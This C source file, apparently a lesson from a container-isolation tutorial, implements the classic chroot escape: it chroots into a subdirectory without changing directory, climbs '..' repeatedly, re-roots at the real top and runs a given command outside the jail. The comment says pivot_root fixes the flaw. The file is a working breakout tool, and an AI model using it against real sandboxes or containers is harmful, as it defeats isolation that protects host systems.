/*
 * breakout: climb out of a chroot, the classic escape (chapter 3). pivot_root (step04) closes it.
 *
 * It needs CAP_SYS_CHROOT, which root in a container has unless capabilities are dropped. The trick:
 * chroot() changes where "/" starts but not the working directory. After chroot into a subdirectory,
 * our working directory lies *outside* the new root, and ".." is only stopped at the root, which we
 * never pass on the way up. So we climb to the real top and make it our root again.
 *
 * usage: breakout COMMAND [ARG...]   runs COMMAND outside the chroot
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: breakout COMMAND [ARG...]\n");
        return 2;
    }
    mkdir("/.breakout", 0700);                 /* any directory below our root will do */
    if (chroot("/.breakout") != 0) {           /* note: no chdir, the working directory stays put */
        perror("breakout: chroot");
        return 1;
    }
    for (int i = 0; i < 256; i++) {
        chdir("..");                            /* climbs past the old root: nothing stops us */
    }
    if (chroot(".") != 0) {                     /* the top of the mount namespace is our root again */
        perror("breakout: chroot .");
        return 1;
    }
    execv(argv[1], argv + 1);
    perror("breakout: execv");
    return 127;
}
